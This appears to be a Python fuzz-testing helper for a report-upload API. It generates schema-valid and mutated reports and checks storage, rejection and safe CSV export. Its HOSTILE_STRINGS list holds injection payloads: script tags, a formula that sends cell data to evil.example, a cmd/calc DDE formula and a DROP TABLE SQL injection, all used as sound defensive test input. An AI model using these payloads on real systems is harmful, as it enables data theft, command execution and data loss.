"""Fuzzing the lab: report.v1 strategies generated from the schema, and the oracles every answer must
satisfy. Shared by the tests in this directory and by benchmarks/fuzz_lab.py (the long run).

Strategies for report.v1 are generated from the schema file itself.

The builder walks the JSON Schema keywords report.v1 uses (type, const, enum, $ref, properties,
required, additionalProperties, propertyNames, pattern, format, lengths, bounds, items) and turns each
``allOf: [{if: {properties: {P: const|enum}}, then: ...}]`` into one branch per value of P with the
``then`` merged in, so every draw is valid without filtering. Strings mix arbitrary text (no U+0000:
the schema's text rule) with hostile samples: markup, script URLs, spreadsheet formulas.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import urllib.parse
import uuid
from typing import Any

import requests
from hypothesis import strategies as st

from sdk_tools.lab.schema import report_schema, schema_errors
from sdk_tools.lab.store import ERROR_MESSAGE_CHARS
from sdk_tools.lab.summary import measured_peak_bytes, plan_label

# What an attacker would put in a device name or an error message.
HOSTILE_STRINGS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload=window.__pwned=1>',
    "javascript:window.__pwned=1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab",
    "\rleading CR",
    'line\nbreak, "quoted", comma',
    "' OR 1=1; DROP TABLE reports; --",
    "\u202eRTL override",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🧪 emoji",
    "{{7*7}} ${7*7}",
    "%00%0d%0a",
)
MAX_ITEMS = 6
TEXT_PATTERN = report_schema()["$defs"]["text"]["pattern"]
MAX_TEXT = 40

_characters = st.characters(codec="utf-8", exclude_characters="\x00")


def _text(min_size: int, max_size: int) -> st.SearchStrategy[str]:
    free = st.text(_characters, min_size=min_size, max_size=min(max_size, max(min_size, MAX_TEXT)))
    hostile = st.sampled_from([s for s in HOSTILE_STRINGS if min_size <= len(s) <= max_size])
    return st.one_of(free, hostile)


def _json_values() -> st.SearchStrategy[Any]:
    """Any JSON value (finite numbers, no NUL), for free-form objects such as bundle.plan."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        _text(0, MAX_TEXT),
    )
    return st.recursive(
        scalars,
        lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(_text(0, 20), inner, max_size=4)),
        max_leaves=12,
    )


class _Builder:
    def __init__(self, root: dict[str, Any]) -> None:
        self.root = root

    def resolve(self, schema: dict[str, Any]) -> dict[str, Any]:
        while "$ref" in schema:
            target: Any = self.root
            for part in schema["$ref"].removeprefix("#/").split("/"):
                target = target[part]
            schema = {**target, **{k: v for k, v in schema.items() if k != "$ref"}}
        return schema

    def build(self, schema: dict[str, Any]) -> st.SearchStrategy[Any]:
        if schema.get("$ref") == "#/$defs/json":
            # Free-form JSON (bundle.plan's values): recursion with a bounded size, not the anyOf itself.
            return _json_values()
        schema = self.resolve(schema)
        if "const" in schema:
            return st.just(schema["const"])
        if "enum" in schema:
            return st.sampled_from(schema["enum"])
        kinds = schema.get("type")
        if isinstance(kinds, list):
            return st.one_of([self.build({**schema, "type": kind}) for kind in kinds])
        if kinds == "object" or "properties" in schema:
            return self._object(schema)
        if kinds == "null":
            return st.none()
        if kinds == "integer":
            low, high = schema.get("minimum", -(2**63)), schema.get("maximum", 2**63)
            return st.integers(low, high)
        if kinds == "number":
            return st.floats(schema.get("minimum"), schema.get("maximum"), allow_nan=False, allow_infinity=False)
        if kinds == "array":
            return st.lists(self.build(schema["items"]), max_size=min(schema.get("maxItems", MAX_ITEMS), MAX_ITEMS))
        if kinds == "string":
            return self._string(schema)
        raise NotImplementedError(f"report.v1 strategy: unsupported schema {schema}")

    def _string(self, schema: dict[str, Any]) -> st.SearchStrategy[str]:
        if schema.get("pattern") == TEXT_PATTERN:
            return _text(schema.get("minLength", 0), schema.get("maxLength", 10**6))
        if "pattern" in schema:
            drawn = st.from_regex(schema["pattern"], fullmatch=True)
            if schema.get("format") == "date-time":
                # The pattern admits February 30; the format does not.
                return drawn.filter(lambda s: not schema_errors_for_format(s))
            return drawn
        raise NotImplementedError(f"report.v1 strategy: string without a pattern {schema}")

    def _object(self, schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
        branches = self._branches(schema)
        if len(branches) > 1:
            return st.one_of([self._object(branch) for branch in branches])
        properties = schema.get("properties", {})
        if not properties:
            names = self._string(self.resolve(schema["propertyNames"]))
            return st.dictionaries(names, self.build(schema["additionalProperties"]), max_size=MAX_ITEMS)
        required = set(schema.get("required", ()))
        fixed = {name: self.build(body) for name, body in properties.items() if name in required}
        optional = {name: self.build(body) for name, body in properties.items() if name not in required}
        return st.fixed_dictionaries(fixed, optional=optional)

    def _branches(self, schema: dict[str, Any]) -> list[dict[str, Any]]:
        """One schema per value of the property an ``if`` tests, with its ``then`` merged in."""
        conditionals = [part for part in schema.get("allOf", ()) if "if" in part]
        if not conditionals:
            return [schema]
        ((name, _),) = conditionals[0]["if"]["properties"].items()
        base = {k: v for k, v in schema.items() if k != "allOf"}
        values = self.resolve(schema["properties"][name])["enum"]
        branches = []
        for value in values:
            branch = copy.deepcopy(base)
            branch["properties"][name] = {"const": value}
            for part in conditionals:
                ((_, condition),) = part["if"]["properties"].items()
                if value in condition.get("enum", [condition.get("const")]):
                    branch = self._merged(branch, part["then"])
            branches.append(branch)
        return branches

    def _merged(self, schema: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
        schema = self.resolve(schema)
        out = {**schema, "required": sorted({*schema.get("required", ()), *extra.get("required", ())})}
        properties = dict(out.get("properties", {}))
        for name, more in extra.get("properties", {}).items():
            properties[name] = self._merged(properties[name], more)
        out["properties"] = properties
        if extra.get("type"):
            # error: {"type": "object"} under a failed status removes the schema's null.
            out["type"] = extra["type"]
        return out


def schema_errors_for_format(started_at: str) -> list[Any]:
    probe = {"run": {"started_at": started_at}}
    return [e for e in schema_errors(probe) if e.path == "$.run.started_at"]


def reports(device_id: str | None = None) -> st.SearchStrategy[dict[str, Any]]:
    """Valid report.v1 documents; with ``device_id``, posted as that registered device."""
    drawn = _Builder(report_schema()).build(report_schema())
    if device_id is None:
        return drawn

    def owned(report: dict[str, Any]) -> dict[str, Any]:
        return {**report, "device": {**report["device"], "device_id": device_id}}

    return drawn.map(owned)


def is_formula(cell: str) -> bool:
    """True for a CSV cell a spreadsheet would evaluate."""
    return bool(cell) and cell[0] in "=+-@\t\r"


def _mutated(draw: st.DrawFn, report: dict[str, Any]) -> dict[str, Any]:
    """The report with one node replaced by an arbitrary JSON value, removed, or given an extra member."""
    report = copy.deepcopy(report)
    node: Any = report
    parent: Any = None
    key: Any = None
    while isinstance(node, dict | list) and node and draw(st.booleans()):
        parent, key = node, draw(st.sampled_from(list(node) if isinstance(node, dict) else range(len(node))))
        node = node[key]
    action = draw(st.sampled_from(["replace", "remove", "extra"]))
    if parent is None or (action == "extra" and not isinstance(node, dict)):
        report["unexpected_member"] = draw(st.integers())
    elif action == "remove" and isinstance(parent, dict):
        del parent[key]
    else:
        parent[key] = draw(
            st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=5))
        )
    return report


@st.composite
def mutated_reports(draw: st.DrawFn) -> dict[str, Any]:
    """Reports one step away from a valid one: most are invalid, some happen to stay valid."""
    return _mutated(draw, draw(reports()))


def raw_bodies() -> st.SearchStrategy[bytes]:
    return st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode))


def owned(report: Any, device_id: str) -> Any:
    """A schema-valid report posted as ``device_id`` with a fresh report_id; anything else unchanged."""
    if not isinstance(report, dict) or schema_errors(report):
        return report
    run = {**report["run"], "report_id": str(uuid.uuid4())}
    return {**report, "device": {**report["device"], "device_id": device_id}, "run": run}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _unescaped(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and is_formula(cell[1:]) else cell


def _query(**params: str) -> str:
    return urllib.parse.urlencode(params)


def check_round_trip(api: Any, device: Any, report: dict[str, Any]) -> None:
    """Post a valid report; it must read back as posted, be listed under its filters, export safely."""
    report = owned(report, device.device_id)
    posted = api.post("/api/v1/reports", report, token=device.token)
    assert posted.status == 201, posted.body
    row_id = posted.body["id"]

    detail = api.get(f"/api/v1/reports/{row_id}")
    assert detail.status == 200
    assert detail.body["report"] == json.loads(json.dumps(report))
    summary = detail.body["summary"]
    assert summary["model"] == report["bundle"]["model"]
    assert summary["device_model"] == report["device"]["model"]
    assert summary["plan"] == plan_label(report["bundle"]["plan"])
    assert summary["measured_peak_bytes"] == measured_peak_bytes(report.get("memory"))
    message = (report.get("error") or {}).get("message")
    assert summary["error_message"] == (None if message is None else message[:ERROR_MESSAGE_CHARS])

    filters = _query(device=device.device_id, model=report["bundle"]["model"], status=report["status"])
    listed = api.get(f"/api/v1/reports?{filters}")
    assert listed.status == 200 and row_id in [item["id"] for item in listed.body["items"]]

    exported = api.get(f"/api/v1/reports.csv?{_query(device=device.device_id)}")
    assert exported.status == 200
    table = csv.DictReader(io.StringIO(exported.body, newline=""))
    (line,) = [r for r in table if r["id"] == str(row_id)]
    # Numbers (a negative error %) may start with "-"; text never starts a formula.
    assert not any(is_formula(cell) and not _is_number(cell) for cell in line.values()), line
    assert _unescaped(line["model"]) == report["bundle"]["model"]
    assert _unescaped(line["device_name"]) == summary["device_name"]
    assert _unescaped(line["error_message"]) == (summary["error_message"] or "")


def check_mutated(api: Any, device: Any, rows: Any, report: dict[str, Any]) -> None:
    """Post a mutated report: 422 and no write if the schema refuses it, else stored."""
    if isinstance(report.get("device"), dict):
        report["device"] = {**report["device"], "device_id": device.device_id}
    if isinstance(report.get("run"), dict) and "report_id" in report["run"]:
        report["run"]["report_id"] = str(uuid.uuid4())
    before = rows.snapshot()
    answer = api.post("/api/v1/reports", report, token=device.token)
    try:
        json.dumps(report, allow_nan=False)
    except ValueError:  # a mutation drew an infinite float: the body is not JSON at all
        assert answer.status == 400 and "not valid JSON" in answer.body["message"], answer.body
        assert rows.snapshot() == before
        return
    if schema_errors(report):
        assert answer.status == 422, answer.body
        assert answer.body["errors"] and answer.body["message"].startswith("report does not match")
        assert rows.snapshot() == before
    else:
        assert answer.status == 201, answer.body


def check_raw_body(api: Any, device: Any, rows: Any, body: bytes) -> None:
    """Post arbitrary bytes: a one-line 4xx and no write."""
    before = rows.snapshot()
    answer = api.post("/api/v1/reports", body, token=device.token)
    assert 400 <= answer.status < 500
    assert "\n" not in answer.body["message"]
    assert rows.snapshot() == before


def check_case(case: Any, url: str, device: Any, rows: Any) -> int:
    """Send one schemathesis case; no 5xx, spec conformance, refusals write nothing, acks read back."""
    if case.method == "POST" and case.path == "/api/v1/reports":
        case.body = owned(case.body, device.device_id)
    before = rows.snapshot()
    response = case.call(base_url=url, headers={"Authorization": f"Bearer {device.token}"})
    assert response.status_code < 500, response.text
    case.validate_response(response)
    if response.status_code >= 400:
        assert rows.snapshot() == before, f"{response.status_code} but the database changed"
        message = response.json()["message"]
        assert message and "\n" not in message
    elif case.method == "POST" and case.path == "/api/v1/reports":
        # An acknowledged report is never lost: it reads back as posted.
        stored = requests.get(f"{url}{response.headers['location'][0]}", timeout=30)
        assert stored.status_code == 200 and stored.json()["report"] == json.loads(json.dumps(case.body))
    return response.status_code
